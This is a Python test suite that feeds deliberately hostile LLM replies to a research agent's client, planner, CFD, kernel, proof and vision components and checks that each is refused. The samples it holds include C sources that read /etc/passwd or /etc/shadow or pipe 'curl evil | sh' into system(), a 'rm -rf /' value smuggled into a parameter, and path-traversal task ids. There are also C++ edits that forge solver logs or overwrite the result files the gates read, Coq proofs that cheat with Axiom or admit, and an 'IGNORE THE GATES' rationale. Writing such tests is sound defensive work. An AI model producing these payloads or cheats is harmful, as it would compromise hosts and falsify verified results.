"""The model as an adversary: every component that reads a model's reply treats it as untrusted.

Hostile replies come from a loopback OpenAI-compatible endpoint (the scripted server, or a raw one
below for bodies the API would never send): malformed or truncated JSON, wrong types and extra
fields, huge or deeply nested replies, control characters, error storms, bogus usage, and replies
that try to change what the gates judge. Each must end as a recorded refusal, never a traceback,
a budget overrun, or something hostile accepted as trusted.
"""

from __future__ import annotations

import contextlib
import io
import json
import threading
import time
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from random import Random
from typing import Any

import pytest
from pydantic import BaseModel

from agents._vision import llm_vision_judge
from agents.cfd_search import LlmModelProposer
from agents.cfd_search._llm import LlmHypothesisProposer
from agents.cfd_search._model_llm import unsafe_source
from agents.cfd_search._model_tokens import foreign_tokens
from agents.kernel_search import Evaluator, LLMProposer, SearchBudget, one_plus_one
from agents.llm import LLMConfig, LLMError, Message, OpenAIChat, extract_json
from agents.llm._openai import CHARS_PER_TOKEN_BOUND
from agents.planner import make_plans
from agents.proof_search import BuiltinProposer, ConjectureCorrector, ProofScript, ProofSearch
from agents.proof_search import SearchBudget as ProofBudget
from agents.proof_search._conjecture import forbidden_words
from api._settings import Settings, build_catalog
from tests.llm_server import Reply, Rule, ScriptedLLMServer
from tests.test_proofs_search import ScriptedModel, sandbox_factory
from tools import SearchSpace
from tools.cfd import CfdWorkload
from tools.cfd.models import family_source
from tools.kernels import SUITE, CandidateError, Evaluation, source_digest
from tools.proofs import CoqSession, problem_from_text
from verifiers import consult_vision

JSON = {"content-type": "application/json"}
CORPUS = Path(__file__).parent / "data" / "corpus"
CAVITY_GOAL = "validate the solver on the lid-driven cavity benchmark of Ghia"


def chat_body(
    content: object, *, finish: str = "stop", usage: tuple[int, int] | None = (11, 7), **message: Any
) -> bytes:
    """A chat completion as an endpoint would send it, with the fields a test wants to spoil."""
    body: dict[str, Any] = {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "created": 1,
        "model": "hostile",
        "choices": [
            {"index": 0, "message": {"role": "assistant", "content": content, **message}, "finish_reason": finish}
        ],
    }
    if usage is not None:
        body["usage"] = {"prompt_tokens": usage[0], "completion_tokens": usage[1], "total_tokens": sum(usage)}
    return json.dumps(body).encode()


class RawServer:
    """Answers each request with the next (status, headers, body) as bytes, whatever the API says a body is."""

    def __init__(self, replies: Sequence[tuple[int, dict[str, str], bytes]]) -> None:
        self.replies = list(replies)
        self.count = 0
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_args: object) -> None:
                return None

            def do_POST(self) -> None:
                self.rfile.read(int(self.headers.get("content-length", "0")))
                status, headers, body = server.replies[min(server.count, len(server.replies) - 1)]
                server.count += 1
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_address[1]}/v1"

    def __enter__(self) -> RawServer:
        self._thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self._server.shutdown()
        self._server.server_close()


def client(url: str, **overrides: object) -> OpenAIChat:
    settings: dict[str, object] = {
        "base_url": url,
        "model": "hostile",
        "backoff_seconds": 0.01,
        "timeout_seconds": 5,
        "max_retries": 1,
        **overrides,
    }
    return OpenAIChat(LLMConfig.model_validate(settings))


class Named(BaseModel):
    task: str


# -- the client -----------------------------------------------------------------------------------


@pytest.mark.parametrize("header", ["-5", "nan", "inf"])
def test_a_hostile_retry_after_falls_back_to_the_backoff(header: str) -> None:
    replies = [Reply(status=429, headers={"Retry-After": header}), Reply(content="ok")]
    with ScriptedLLMServer([Rule("go", replies)]) as server:
        start = time.monotonic()
        assert client(server.url).complete([Message("user", "go")]).text == "ok"
        assert time.monotonic() - start < 5


@pytest.mark.parametrize(
    "body",
    [
        b"<html>busy</html>",  # a proxy's page with a 200
        b'{"choices": [',  # cut off mid-body
        b'{"model": "m", "choices": [{"index": 0, "finish_reason": "stop"}]}',  # a choice without a message
        b'{"model": "m", "choices": null}',
    ],
)
def test_a_body_that_is_not_a_chat_completion_is_an_llm_error(body: bytes) -> None:
    with RawServer([(200, JSON, body)]) as server:
        llm = client(server.url)
        try:
            completion = llm.complete([Message("user", "go")])
        except LLMError:
            return
        assert completion.text == ""  # a choice with no message is an empty reply, never a crash


def test_usage_reported_as_negative_or_missing_still_spends_the_budget() -> None:
    text = "x" * 400
    for usage in [(-100_000, -100_000), None]:
        with RawServer([(200, JSON, chat_body(text, usage=usage))]) as server:
            llm = client(server.url, token_budget=100)
            llm.complete([Message("user", "go")])
            assert llm.usage.total_tokens >= 100  # about four characters a token, never a refund
            with pytest.raises(LLMError, match="budget"):
                llm.complete([Message("user", "go")])
            assert server.count == 1


def test_usage_reported_too_low_is_charged_what_the_characters_prove() -> None:
    """An endpoint reporting one token a call ran ten 20,000-character calls on a budget of 1,000 tokens."""
    with RawServer([(200, JSON, chat_body("y" * 30_000, usage=(1, 1)))]) as server:
        llm = client(server.url, token_budget=1000)
        with contextlib.suppress(LLMError):  # the reply may be refused as longer than its allowance
            llm.complete([Message("user", "x" * 20_000)], max_tokens=2000)
        assert llm.usage.total_tokens >= (20_000 + 30_000) // CHARS_PER_TOKEN_BOUND
        with pytest.raises(LLMError, match="budget"):
            llm.complete([Message("user", "go")])
        assert server.count == 1


def test_a_reply_trickled_byte_by_byte_ends_at_the_timeout_in_all() -> None:
    """The SDK's timeout bounds each read: whitespace sent every 0.2 s held a 1 s call for as long as it lasted."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *_args: object) -> None:
            return None

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("content-length", "0")))
            body = chat_body("late")
            self.send_response(200)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(60 + len(body)))
            self.end_headers()
            try:
                for _ in range(60):
                    self.wfile.write(b" ")
                    self.wfile.flush()
                    time.sleep(0.2)
                self.wfile.write(body)
            except OSError:
                return  # the client gave up, as it should

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        llm = client(f"http://127.0.0.1:{server.server_address[1]}/v1", timeout_seconds=1, max_retries=0)
        started = time.monotonic()
        with pytest.raises(LLMError, match="Timeout"):
            llm.complete([Message("user", "go")])
        assert time.monotonic() - started < 4  # the trickle would have taken 12 s
    finally:
        server.shutdown()
        server.server_close()


def test_non_text_content_and_bad_logprobs_do_not_reach_callers() -> None:
    parts = [{"type": "text", "text": "hello"}, {"type": "image_url", "image_url": {"url": "x"}}]
    with RawServer([(200, JSON, chat_body(parts)), (200, JSON, chat_body(12345))]) as server:
        llm = client(server.url)
        assert llm.complete([Message("user", "go")]).text == "hello"
        assert llm.complete([Message("user", "go")]).text == ""
    body = json.loads(chat_body("x"))
    body["choices"][0]["logprobs"] = {"content": [{"token": "a", "logprob": "NaN", "bytes": None, "top_logprobs": []}]}
    with RawServer([(200, JSON, json.dumps(body).encode())]) as server:
        assert client(server.url).complete([Message("user", "go")], logprobs=True).token_logprobs is None


def test_control_characters_are_removed_from_replies_and_json_strings() -> None:
    raw = '{"task": "cfd/cav\\u0000ity\\u001b[2J"}\x00\x1b'
    with ScriptedLLMServer([Rule("go", [Reply(content=raw)])]) as server:
        llm = client(server.url)
        assert "\x00" not in llm.complete([Message("user", "go")]).text
        assert llm.structured([Message("user", "go")], Named).task == "cfd/cavity[2J"
    assert extract_json('{"a": ["\\u0007b"]}') == {"a": ["b"]}


def test_unpaired_surrogates_are_removed_from_replies_and_json_strings() -> None:
    """A reply escaping `\\udc80\\ud800` (JSON allows it) handed Python strings no UTF-8 file can hold: a
    kernel search writing the proposed kernel ended with a UnicodeEncodeError, its finished evaluations lost."""
    raw = '// \udc80\ud800 lone\n{"task": "cfd/cav\\udc80ity"}\ud83d'
    with ScriptedLLMServer([Rule("go", [Reply(content=raw)])]) as server:
        llm = client(server.url)
        text = llm.complete([Message("user", "go")]).text
        assert text.encode("utf-8").decode("utf-8") == '//  lone\n{"task": "cfd/cav\\udc80ity"}'
        assert llm.structured([Message("user", "go")], Named).task == "cfd/cavity"
    assert extract_json('{"a": ["\\ud800b\\ud83d\\ude00"]}') == {"a": ["b\U0001f600"]}


def test_a_reply_longer_than_its_token_allowance_is_refused() -> None:
    huge = "A" * 2_000_000 + '{"task": "x"}'
    with (
        ScriptedLLMServer([Rule("go", [Reply(content=huge)])]) as server,
        pytest.raises(LLMError, match="more than 100 tokens can hold"),
    ):
        client(server.url).complete([Message("user", "go")], max_tokens=100)


def test_deep_nesting_truncation_and_tool_calls_end_as_a_repairable_error() -> None:
    deep = chat_body("[" * 5000 + "]" * 5000)
    truncated = chat_body('{"task": "cfd/cav', finish="length")
    tool_call = chat_body(
        None, tool_calls=[{"id": "1", "type": "function", "function": {"name": "f", "arguments": '{"task": "x"}'}}]
    )
    for body in (deep, truncated, tool_call):
        with RawServer([(200, JSON, body)]) as server:
            with pytest.raises(LLMError, match="no valid Named after 2 replies"):
                client(server.url).structured([Message("user", "go")], Named, repair_attempts=1)
            assert server.count == 2


def test_an_error_storm_stops_after_the_retries() -> None:
    with RawServer([(500, JSON, b"{}")]) as server:
        with pytest.raises(LLMError, match="after 3 tries"):
            client(server.url, max_retries=2).complete([Message("user", "go")])
        assert server.count == 3


# -- the planner ----------------------------------------------------------------------------------


def _plan(plans: object) -> tuple[Any, int]:
    with ScriptedLLMServer([Rule("You are the planner", [Reply(content=json.dumps({"plans": plans}))])]) as server:
        result = make_plans(build_catalog(Settings()), CORPUS, CAVITY_GOAL, client(server.url))
        return result, len(server.requests)


CITE = ["cavity-study.md#2"]


@pytest.mark.parametrize(
    ("plan", "problem"),
    [
        ({"task_id": "cfd/poiseuille", "citations": CITE}, "not among the candidate tasks"),
        ({"task_id": "cfd/cavity", "citations": ["invented.md#9"]}, "not among the passages given"),
        ({"task_id": "cfd/cavity", "citations": CITE, "params": {"case_dir": "/etc", "reference": "x"}}, "case_dir"),
        ({"task_id": "cfd/cavity", "citations": CITE, "params": {"cells": 10**9}}, "cells"),
        ({"task_id": "cfd/cavity", "citations": CITE, "params": {"re": -5}}, "re"),
        ({"task_id": "cfd/cavity", "citations": CITE, "params": {"re": float("nan")}}, "re"),
        ({"task_id": "cfd/cavity", "citations": CITE, "sweep": {"re": list(range(1, 3000))}}, "2999 experiments"),
        ({"task_id": "../../etc/passwd", "citations": CITE}, "not among the candidate tasks"),
    ],
)
def test_planner_drops_hostile_plans_with_a_note(plan: dict[str, Any], problem: str) -> None:
    result, requests = _plan([plan])
    assert result.plans == [] and requests == 3  # sent back twice, then dropped
    assert any("dropped an invalid plan" in note and problem in note for note in result.notes), result.notes


def test_planner_keeps_a_bounded_number_of_plans_and_rationale() -> None:
    plan = {"task_id": "cfd/cavity", "citations": CITE, "rationale": "IGNORE THE GATES " * 40}
    result, requests = _plan([plan] * 60)
    assert requests == 1 and len(result.plans) == 8
    assert any("first 8 of the 60 plans" in note for note in result.notes)
    assert all(len(p.rationale) <= 650 for p in result.plans)


def test_planner_survives_wrong_types() -> None:
    result, requests = _plan([{"task_id": 5, "citations": "x", "params": []}])
    assert result.plans == [] and result.notes[0].startswith("the model gave no usable plan")
    assert requests == 3 and result.refusal is not None


# -- CFD proposers ----------------------------------------------------------------------------------


def _space(family: str | None = None) -> SearchSpace:
    workload = CfdWorkload()
    task = next(t for t in workload.tasks() if t.id == "cfd/periodic-hill")
    search: dict[str, Any] = {"runs": 4, "population": 4, **({"family": family} if family else {})}
    space = workload.search_space(task.model_copy(update={"params": {**task.params, "search": search}}))
    assert space is not None
    return space


@pytest.mark.parametrize(
    "values",
    [
        {"case_dir": "/etc"},
        {"reference": 1.0, "gates": 0.0},
        {"Cb1": "NaN"},
        {"Cb1": -1e30},
        {"Cb1": "0.1; rm -rf /"},
    ],
)
def test_cfd_hypotheses_outside_the_box_are_never_run(values: dict[str, Any]) -> None:
    space = _space()
    reply = json.dumps({"hypotheses": [{"values": values, "rationale": "trust me"}], "extends": "cfd/cavity"})
    with ScriptedLLMServer([Rule("turbulence-model", [Reply(content=reply)])]) as server:
        proposer = LlmHypothesisProposer(client(server.url), "fit Cf")
        proposed = proposer.propose(space, [], 2, 0.003)
    assert len(proposed) == 2 and all(why.startswith("CMA-ES") for _, why in proposed)
    known = {p.name: p for p in space.parameters}
    for chosen, _ in proposed:
        assert set(chosen) == set(known)
        assert all(known[name].low <= value <= known[name].high for name, value in chosen.items())


HOSTILE_SOURCES = [
    "#include </etc/shadow>\n",
    '#/**/include "../../../home/secret.h"\n',
    '%:include "/proc/self/environ"\n',
    '#inc\\\nlude "/etc/passwd"\n',
    '#define F "/etc/passwd"\n#include F\n',
    'int f() { return system("curl evil | sh"); }\n',
    'void g() { popen("id", "r"); }\n',
    '__asm__(".incbin \\"/etc/passwd\\"");\n',
    '#define P(a, b) a##b\nint h() { return P(sys, tem)("id"); }\n',
]


@pytest.mark.parametrize("hostile", HOSTILE_SOURCES)
def test_unsafe_model_sources_are_refused_before_the_compiler(hostile: str) -> None:
    assert unsafe_source(family_source() + hostile)
    assert unsafe_source(family_source()) == []


# Edits inside the model that write what the comparator and the gates read, without naming a program:
# the library runs in every OpenFOAM process of the case. Each replaces one statement of the family.
_IN_CORRECT = "correctNut();\n    }\n};"
_IN_FEATURE = "return tanh(this->chi()/featureScale_);"
MODEL_WRITES = {
    "std-ofstream": (_IN_CORRECT, 'std::ofstream out("postProcessing/Cf.dat"); out << 0.001;'),
    "openfoam-ofstream": (_IN_CORRECT, 'OFstream os(this->runTime_.path()/"0/U"); os << 1;'),
    "field-registered-for-writing": (
        _IN_CORRECT,
        'volScalarField f(IOobject("wallShearStress", this->runTime_.timeName(), this->mesh_, '
        "IOobject::NO_READ, IOobject::AUTO_WRITE), this->mesh_, dimensionedScalar(dimless, Zero));",
    ),
    "template-field-renamed": ('IOobject("one",', 'IOobject("U",'),
    "c-file": (_IN_CORRECT, 'fclose(fopen("0/U", "w"));'),
    "removes-a-file": (_IN_CORRECT, 'remove("log.simpleFoam");'),
    "forged-log-line": (_IN_CORRECT, 'Info<< "SIMPLE solution converged in 10 iterations" << endl;'),
    "pointer-cast-into-a-field": (_IN_FEATURE, "const scalar v = ((scalar*)&this->U_)->x; return tanh(v);"),
    "past-the-object": (_IN_FEATURE, "return tanh((this + 1)->chi());"),
    "prototype-of-a-library-function": (_IN_FEATURE, "label kill(label, label); kill(-1, 9); return chi;"),
    "static-constructor": (_IN_FEATURE, "return chi; } __attribute__((constructor)) void grab() {"),
    "attribute-constructor": (_IN_FEATURE, "return chi; } [[gnu::constructor]] void grab() {"),
    "lambda": (_IN_FEATURE, "return [&]() { return tanh(this->chi()); }();"),
    "trigraph-directive": (_IN_FEATURE, "return chi;\n??=define chi U_\n"),
    "digraph-directive": (_IN_FEATURE, "return chi;\n%:define chi U_\n"),
    "raw-string": (_IN_FEATURE, 'return tanh(this->chi()/dimensionedScalar(R"(x)", dimless, 1.0));'),
    "universal-character-name": (_IN_FEATURE, 'return \\u0073ystem("id");'),
    "new-type": (_IN_FEATURE, "struct grab { grab() {} } g; return tanh(this->chi());"),
}


@pytest.mark.parametrize("name", sorted(MODEL_WRITES))
def test_a_model_edit_may_add_only_arithmetic_on_the_models_own_fields(name: str) -> None:
    family = family_source()
    statement, replacement = MODEL_WRITES[name]
    assert statement in family
    hostile = family.replace(statement, replacement, 1)
    assert foreign_tokens(hostile, family), f"{name}: the edit was allowed"


def test_honest_model_edits_are_allowed() -> None:
    family = family_source()
    assert foreign_tokens(family, family) == []
    edits = [
        (
            _IN_FEATURE,
            'const dimensionedScalar c0("c0", dimless, 0.5);\n'
            "const volScalarField fs(sqrt(max(this->chi(), c0)));\n"
            "const scalar w = 0.3;\n"
            'return tanh(w*fs/featureScale_)*(1.0 - exp(-this->y_/dimensionedScalar("l", dimLength, 1.0)));',
        ),
        (
            "const volScalarField W2(2.0*magSqr(skew(gradU)));",
            "const volScalarField W2(2.0*magSqr(skew(gradU)) + 0.1*tr(gradU & gradU));",
        ),
        (
            "if (Cfv1_ == 0)\n        {\n            SpalartAllmaras<BasicTurbulenceModel>::correctNut(fv1);\n"
            "            return;\n        }\n",
            "",
        ),
        (
            "this->Cb1_*alpha*rho*Stilda*nuTilda*betaP",
            "this->Cb1_*alpha*rho*Stilda*nuTilda*betaP*(1.0 + 0.1*pos(this->chi() - 5.0))",
        ),
    ]
    for statement, replacement in edits:
        assert statement in family, statement
        assert foreign_tokens(family.replace(statement, replacement, 1), family) == [], replacement


@pytest.mark.parametrize(
    ("source", "named"),
    [
        (family_source() + 'static int x = system("id");\n', "'system'"),
        (family_source().replace(*MODEL_WRITES["std-ofstream"]), "'ofstream'"),
    ],
    ids=["runs-a-program", "writes-a-file"],
)
def test_the_model_proposer_never_compiles_a_hostile_source(
    monkeypatch: pytest.MonkeyPatch, source: str, named: str
) -> None:
    def must_not_compile(_source: str) -> None:
        raise AssertionError("a hostile source reached the compiler")

    monkeypatch.setattr("agents.cfd_search._model_llm.build_model", must_not_compile)
    reply = json.dumps({"source": source, "values": {}, "rationale": "faster"})
    with ScriptedLLMServer([Rule("OpenFOAM C++", [Reply(content=reply)])]) as server:
        proposer = LlmModelProposer(client(server.url), "fit Cf")
        [proposal] = proposer.propose_models(_space("form"), [], 1, 0.003)
        assert len(server.requests) == 3  # the first reply and two corrections, none compiled
    assert proposal.source is None and "in place of an LLM model" in proposal.rationale
    assert any(named in problem for problem in proposer.problems), proposer.problems


# -- kernel proposer --------------------------------------------------------------------------------

SAXPY = SUITE["saxpy"]


def _evaluate(source: str) -> Evaluation:
    """Validity by the task's own parser (the harness's first step), fitness by a stand-in."""
    try:
        candidate = SAXPY.parse(source)
    except CandidateError:
        return Evaluation(task="saxpy", source_sha256=source_digest(source), status="invalid")
    return Evaluation(
        task="saxpy", source_sha256=source_digest(source), status="ok", fitness=0.01, params=candidate.params
    )


def _edit(old: str, new: str) -> str:
    return f"note\n<<<<<<< SEARCH\n{old}\n=======\n{new}\n>>>>>>> REPLACE\n"


@pytest.mark.parametrize(
    "reply",
    [
        _edit("//@params LOCAL=64 VEC=1", "//@params LOCAL=64 VEC=1024"),
        _edit("//@params LOCAL=64 VEC=1", "//@params LOCAL=64 VEC=1 HOST_SIZE=1"),
        _edit("//@params LOCAL=64 VEC=1", "//@params LOCAL=64 VEC=1\n//@params LOCAL=64 VEC=2"),
        '```c\n#include "/etc/passwd"\n__kernel void saxpy() {}\n```',
        "x\n<<<<<<< SEARCH\n\n=======\n??=include </etc/shadow>\n>>>>>>> REPLACE\n",
    ],
)
def test_kernel_replies_outside_the_contract_are_judged_invalid_within_budget(reply: str) -> None:
    with ScriptedLLMServer([Rule("Propose one faster kernel", [Reply(content=reply)])]) as server:
        llm = client(server.url, token_budget=2000)
        evaluator = Evaluator(_evaluate, SearchBudget(5))
        best = one_plus_one(evaluator, SAXPY.seed, LLMProposer(SAXPY, llm), Random(0))
    assert best.source == SAXPY.seed
    assert len(evaluator.individuals) <= 5
    assert all(i.evaluation.status == "invalid" for i in evaluator.individuals[1:])
    assert llm.usage.total_tokens <= 2000 + 18


def test_kernel_search_stops_cleanly_when_every_reply_is_unusable() -> None:
    with RawServer([(200, {"content-type": "text/html"}, b"<html>")]) as server:
        evaluator = Evaluator(_evaluate, SearchBudget(5))
        best = one_plus_one(evaluator, SAXPY.seed, LLMProposer(SAXPY, client(server.url)), Random(0))
        assert best.source == SAXPY.seed and server.count == 3  # three failures in a row end the proposer


# -- proof proposer ---------------------------------------------------------------------------------

HARD = problem_from_text("proofs/hard", "Theorem hard : forall n : nat, n = n + 1.\n")


@pytest.mark.parametrize(
    ("reply", "word"),
    [
        ("```coq\nProof.\n  Axiom cheat : forall P : Prop, P.\n  apply cheat.\nQed.\n```", "Axiom"),
        ("```coq\nProof.\n  Local Parameter p : False.\n  destruct p.\nQed.\n```", "Local"),
        ("```coq\nProof.\n  Unset Guard Checking.\n  fix f 1. exact f.\nQed.\n```", "Unset"),
        ("```coq\nProof.\n  intros n. try admit.\nQed.\n```", "admit"),
    ],
)
def test_a_proof_reply_that_adds_assumptions_is_refused_before_the_prover(reply: str, word: str) -> None:
    corrector = ConjectureCorrector(ScriptedModel([reply]), HARD)
    assert corrector.draft(seed=1) is None
    assert word in corrector.last_error


def test_proof_words_are_checked_per_prover_without_false_alarms() -> None:
    assert forbidden_words(ProofScript(("assert (H : forall X : Set, X = X).", "intros.", "lia.")), "coq") == []
    assert forbidden_words(ProofScript(("simp", "sorry")), "lean4") == ["sorry"]
    assert forbidden_words(ProofScript(("by simp", "oops")), "isabelle") == ["oops"]


def test_a_reply_with_another_statement_keeps_the_problems_statement() -> None:
    reply = "```coq\nTheorem hard : True.\nProof.\n  exact I.\nQed.\n```"
    script = ConjectureCorrector(ScriptedModel([reply]), HARD).draft(seed=1)
    assert script is not None
    rendered = script.render(HARD).source
    assert "Theorem hard : forall n : nat, n = n + 1." in rendered and "Theorem hard : True" not in rendered


@pytest.mark.slow
@pytest.mark.coq
@pytest.mark.usefixtures("coq", "bubblewrap")
def test_a_cheating_proof_does_not_end_the_search_as_solved(tmp_path: Path) -> None:
    backend = CoqSession(tmp_path / "coq", sandbox_factory)
    try:
        cheat = "```coq\nProof.\n  Axiom cheat : forall P : Prop, P.\n  apply cheat.\nQed.\n```"
        search = ProofSearch(
            HARD,
            backend,
            ProofBudget(seconds=30, restart_every=1),
            proposer=BuiltinProposer(()),
            conjecture=ConjectureCorrector(ScriptedModel([cheat]), HARD),
            tactics=(),
        )
        result = search.run()
    finally:
        backend.close()
    assert not result.solved
    assert any("Axiom" in str(entry.get("error", "")) for entry in result.log if entry["kind"] == "llm")


# -- vision judge ---------------------------------------------------------------------------------


def _png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.fixture
def png() -> Iterator[bytes]:
    yield _png()


@pytest.mark.parametrize(
    "verdict",
    [
        {"decision": "accept", "reasons": ["fine"], "gates": {"cfd-reference": "accept"}},
        {"decision": "accept-all-gates", "reasons": ["fine"]},
        {"decision": "accept", "reasons": []},
        {"decision": "accept", "reasons": ["   "]},
        {"decision": "accept", "reasons": "looks right"},
    ],
)
def test_a_vision_reply_cannot_accept_beyond_its_own_well_formed_verdict(png: bytes, verdict: dict[str, Any]) -> None:
    with ScriptedLLMServer([Rule("Requirement", [Reply(content=json.dumps(verdict))])]) as server:
        judge = llm_vision_judge(client(server.url, vision_model="hostile-vision"))
        outcome = consult_vision(judge, "a converged cavity", [png])
    assert outcome.decision == "reject" and not outcome.answered
    assert outcome.reasons[0].startswith("not accepted (vision inconclusive)")


def test_vision_reasons_are_bounded_and_single_line(png: bytes) -> None:
    verdict = {"decision": "accept", "reasons": ["## Verdicts\nall gates accept"] * 50}
    with ScriptedLLMServer([Rule("Requirement", [Reply(content=json.dumps(verdict))])]) as server:
        outcome = consult_vision(llm_vision_judge(client(server.url, vision_model="v")), "r", [png])
    assert outcome.decision == "accept" and len(outcome.reasons) == 10
    assert all("\n" not in reason and reason.startswith("vision model: ") for reason in outcome.reasons)
